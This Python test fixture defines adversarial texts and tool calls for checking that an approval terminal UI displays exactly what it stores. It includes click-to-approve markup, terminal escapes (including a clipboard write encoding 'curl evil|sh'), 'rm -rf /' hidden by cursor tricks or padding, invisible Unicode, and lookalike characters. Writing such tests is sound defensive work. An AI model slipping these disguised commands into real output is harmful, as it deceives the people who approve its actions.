"""Calls and texts that try to fool whoever looks at them, for every place where outside text is drawn.

`HOSTILE_TEXTS` are short and fit anywhere, also as a reviewer's reason or the detail of an outcome;
`HOSTILE_CALLS` are calls that the store admits. What a screen shows of any of them must determine what is stored.
"""

from __future__ import annotations

from typing import Any

from approval_tui.domain.calls import Call
from approval_tui.domain.limits import LONGEST_NAME

MEGABYTE = 1_000_000
DEEPEST_ARGUMENTS = 99
"""Objects and lists inside one another, the arguments themselves counted, that may still hold a text."""

MARKUP_TEXTS = {
    "markup that approves on a click": "[@click=app.approve('x')]shell[/]",
    "markup with a style and a click": "[B @click=app.pwn]press[/]",
    "markup with a variable and a click": "[$error @click=app.decide('approve')]press[/]",
    "markup with a link": "[link=https://example.org]https://bank.example[/link]",
    "markup that hides": "[black on black]hidden[/] [blink]x[/blink]",
    "markup in an escape": r"\[bold]not bold\[/bold] \\[red]",
    "a tag that closes nothing": "arr[0] = [/x]",
    "a tag that never closes": "[bold",
    "brackets alone": "[]][[/]",
    "emoji by name": ":skull: :white_check_mark:",
    "the markup of another library": "<b onclick='approve()'>x</b> $(id) `id` {0} %s %(x)s ${HOME}",
}

CONTROL_TEXTS = {
    "a new window title": "\x1b]0;owned\x07",
    "the clipboard by OSC 52": "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\",
    "a hyperlink by OSC 8": "\x1b]8;;https://evil.example\x1b\\https://bank.example\x1b]8;;\x1b\\",
    "a cleared screen": "\x1b[2J\x1b[H",
    "a cursor that goes up": "rm -rf /\x1b[1A\x1b[2Kls",
    "hidden text by CSI": "\x1b[8mhidden\x1b[28m \x1b[30;40mblack\x1b[0m",
    "the terminal asked for its name": "\x1b[c\x1b[6n\x1b]10;?\x07",
    "a string to the device": "\x1bP$q q\x1b\\ \x1bPq#0;2;0;0;0~\x1b\\",
    "an application string": "\x1b_Ga=d\x1b\\ \x1b^private\x1b\\",
    "C1 controls": "\x9b2J\x9d0;owned\x9c\x90q\x9c\x85\x84\x8d",
    "carriage returns": "rm -rf /\rls        ",
    "backspaces": "rm -rf /\b\b\b\b\b\b\b\bls      ",
    "every control": "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)])),
    "bracketed paste": "\x1b[200~a\x1b[201~",
    "tabs": "a\tb\t\tc",
    "line breaks of all kinds": "a\nb\r\nc\rd\u2028e\u2029f\x0bg\x0ch\x85i",
    "a zero byte": "ls\0; rm -rf /",
}

UNSEEN_TEXTS = {
    "an override of direction": "echo safe \u202e gnp.exe \u202c done",
    "isolates of direction": "access\u2066user\u2069\u2067admin\u2069\u2068x\u2069",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "zero width": "pass\u200bword a\u200cb\u200dc\u2060d\ufeffe",
    "fillers": "a\u115fb\u1160c\u3164d\uffa0e\u2800f\u034fg\u17b4h",
    "blanks of other widths": "a\u00a0b\u2003c\u3000d\u202fe\u2007f",
    "tags": "hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "approve me") + "\U000e0001\U000e007f",
    "variation selectors": "a\ufe0fb\ufe0ec\U000e0100d\u180be\U000e01eff",
    "soft hyphens": "de\u00adploy",
    "private use and noncharacters": "\ue000\uf8ff\U000f0000\U0010fffd\ufdd0\uffff\U0001fffe",
    "unassigned": "\u0378\u2065\U000e0080",
    "joined emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f44d\U0001f3fd \U0001f1e9\U0001f1ea \U0001f1e9",
    "keycaps": "1\ufe0f\u20e3 1\u20e3 #\u20e3",
    "escapes written out": "\\u{202E} \\\\u{202E} \\\u202e \\\\\u202e \\u{",
    "only a zero width space": "\u200b",
}

MARK_TEXTS = {
    "a mark that comes first": "\u0301abc",
    "a mark on a quote": 'a"\u0301b \u0338"\u0338',
    "a mark on a blank": "a \u0301b  \u0338\u0338c",
    "a mark that strikes through": "d\u0338e\u0338n\u0338y\u0338",
    "a stack of 200 marks": "a" + "\u0301" * 200 + "b",
    "200 stacks of 20 marks": ("a" + "\u0300\u0316" * 10) * 200,
    "marks that enclose": "a\u20dd \u20e0 approve\u20e0",
    "marks of their own width": "\u0915\u093f\u0902\u0903 \u0903",
    "Hangul in parts": "\u1112\u1161\u11ab \u1161 a\u1161 \ud7b0\ud7cb",
    "only marks": "\u0301\u0302\u0303",
}

BLANK_TEXTS = {
    "a space at the end": "make deploy ",
    "a space at the beginning": " make deploy",
    "spaces at the ends of lines": "a \n  b  \n \n",
    "text pushed out of sight": "ls" + " " * 400 + "; rm -rf /",
    "spaces before a wide character": "ls" + " " * 13 + "漢" + " " * 14 + "字" + " " * 97 + "漢",
    "spaces between wide characters": "漢 字  " * 30,
    "a backslash and a space": "a\\ \nb\\\\ \nc \\",
    "only line breaks": "\n\n\n",
}

IMITATING_TEXTS = {
    "a row of its own": 'x"\ncommand: "ls',
    "a continued row": "↳ go on\n  ↳ and on\n> and on",
    "a bar": "│ text\n  │ more\n| more",
    "a level": "#3 command: 1\n#99 │ x",
    "a note": "(2 lines, 3 characters)",
    "no arguments": "(no arguments)",
    "a mask": "•••• 12 characters redacted **** 12 characters redacted",
    "a cut": "make… (+12 characters) ...",
    "the end of the arguments": "── end of the arguments ──────────",
    "a field of ours": "approved by  ann, 2027-01-15T08:01:00.000Z, via console",
    "a label in quotes": '"a": "b", [0]: 1',
    "quotes": '"“”"\'" “approve this” ”',
    "our own status": "✓ approved  ▲ HIGH  ● succeeded",
    "one row at 60 columns": "k" * 59 + 'command: "ls"'.ljust(60) + "z",
}

LOOKALIKE_TEXTS = {
    "Cyrillic letters": "ѕhеll",
    "full-width letters": "ｓｈｅｌｌ",
    "mathematical letters": "𝗌𝗁𝖾𝗅𝗅",
    "Greek letters": "αpprονe",
    "a long s": "ſhell",
    "a dash that is none": "rm ‐rf −rf –rf",
    "a slash that is none": "https:∕∕bank.example∕login",
    "a colon that is none": "command꞉ ls",
    "a semicolon that is a question": "ls; id",
    "right to left": "שלום abc עולם, مرحبا 123",
}

HOSTILE_TEXTS: dict[str, str] = {
    **MARKUP_TEXTS,
    **CONTROL_TEXTS,
    **UNSEEN_TEXTS,
    **MARK_TEXTS,
    **BLANK_TEXTS,
    **IMITATING_TEXTS,
    **LOOKALIKE_TEXTS,
}
"""Short texts by name; each fits a reviewer's reason, an outcome's detail and, by `as_name`, a name."""


def as_name(text: str) -> str:
    """The text as a tool's or requester's name may be: not blank, and no longer than the store admits."""
    return (text if text.strip() else f"{text}x")[:LONGEST_NAME]


def everywhere(text: str) -> Call:
    """A call that has this text in every place where a requester may put one."""
    name = as_name(text)
    return Call(
        tool=name,
        server=name,
        requester=name,
        session=name,
        context={text: text, "working_directory": text, f"{text}2": [text, {text: text}]},
        reason=text,
        arguments={text: text, "command": text, f"{text}2": {text: [text, {text: text}], "note": f"{text}\n{text}"}},
    )


def with_arguments(**arguments: Any) -> Call:
    """A plain call with these arguments."""
    return Call(tool="shell", requester="release-bot", arguments=arguments)


def nested(levels: int) -> dict[str, Any]:
    """Arguments of so many objects and lists inside one another, with something beside each of them."""
    inner: Any = "x\ny "
    for level in range(levels - 1, 0, -1):
        inner = [inner, level] if level % 3 == 0 else {"a": inner, "b": "command: 1"}
    return {"a": inner, "b": "command: 1"}


#: Values that a careless screen shows alike.
CONFUSABLE_VALUES: tuple[Any, ...] = (
    *("1", 1, 1.0, "1.0", True, "true", "True", False, "false", None, "null", "None", "", " ", "  "),
    *(0, -0.0, 0.0, "0", "-0.0", 1e16, 10**16, 1e22, 10**22, 1e-7, 0.1, 0.30000000000000004, 5e-324),
    *(2**53 - 1, 2**53, 2**53 + 1, float(2**53), str(2**53 + 1), -(2**53) - 1, 2**4096 - 1, "\0int:1"),
    *({}, "{}", [], "[]", [[]], [{}], {"": ""}, [""], [None], {"a": {}}, ["1"], [1], "[1]", {"0": 1}, {"[0]": 1}),
    *("a\nb", ["a", "b"], "a\\nb", "(2 lines, 3 characters)", '"1"', "1\n", "\n1", "\\u{20}", "a ", "a"),
)

LARGE_CALLS: dict[str, Call] = {
    "a megabyte of letters": with_arguments(command="x" * MEGABYTE),
    "a megabyte of words": with_arguments(command="make deploy " * (MEGABYTE // 12)),
    "a megabyte of wide characters": with_arguments(command="漢" * (MEGABYTE // 3)),
    "a megabyte of spaces": with_arguments(command="ls" + " " * MEGABYTE + "; rm -rf /"),
    "a megabyte of lines": with_arguments(command="make deploy\n" * (MEGABYTE // 12)),
    "a megabyte of line breaks": with_arguments(command="\n" * MEGABYTE),
    "a megabyte of marks": with_arguments(command="a" + "\u0301" * (MEGABYTE // 2)),
    "a megabyte of overrides": with_arguments(command="\u202e" * (MEGABYTE // 3)),
    "a megabyte of backslashes": with_arguments(command="\\" * (MEGABYTE // 2) + "\u202e"),
    "a key of a megabyte": with_arguments(**{"k" * MEGABYTE: 1}),
    "5,000 keys": with_arguments(**{f"key {number}": f"value {number}" for number in range(5000)}),
    "5,000 items": with_arguments(items=list(range(5000))),
    "all that a text may hold, as the reason": Call(
        tool="shell", requester="release-bot", arguments={}, reason="All checks passed. " * 862
    ),
}
"""The calls that take long to draw; they are among HOSTILE_CALLS too."""

HOSTILE_CALLS: dict[str, Call] = {
    **{f"everywhere {name}": everywhere(text) for name, text in HOSTILE_TEXTS.items()},
    "values that look alike": with_arguments(values=list(CONFUSABLE_VALUES)),
    "values that look alike, by key": with_arguments(
        **{f"k{number}": value for number, value in enumerate(CONFUSABLE_VALUES)}
    ),
    "values that look alike, as context": Call(
        tool="shell",
        requester="release-bot",
        arguments={},
        context={f"k{number}": value for number, value in enumerate(CONFUSABLE_VALUES)},
    ),
    "keys that look alike": with_arguments(
        **dict.fromkeys(
            ("a", "a ", " a", "A", "а", "ａ", "", " ", '"a"', "[0]", "0", "a:", "a: 1", "\u200b", "\\u{200B}"), 1
        )
    ),
    "keys that imitate rows": with_arguments(
        **{
            'command: "ls"': 1,
            'a": "b': 'c": "d',
            "↳ command": 1,
            "│ command": 1,
            "> command": 1,
            "| command": 1,
            "#3 command": 1,
            "(no arguments)": 1,
            "a" * 19 + 'command: "ls"'.ljust(20) + "z": 1,
            "a" * 59 + 'command: "ls"'.ljust(60) + "z": 1,
            "b\nc: 1": {"d\ne: 2": "f\ng: 3"},
        }
    ),
    "the deepest nesting": Call(tool="shell", requester="release-bot", arguments=nested(DEEPEST_ARGUMENTS)),
    "the longest names": everywhere("W" * LONGEST_NAME),
    "the longest wide names": everywhere("漢" * LONGEST_NAME),
    "no arguments at all": with_arguments(),
    "a tool that is two tools": Call(tool="read_file or shell", requester="release-bot, ann", arguments={}),
    **LARGE_CALLS,
}
"""Calls by name, each of them admitted by the store."""
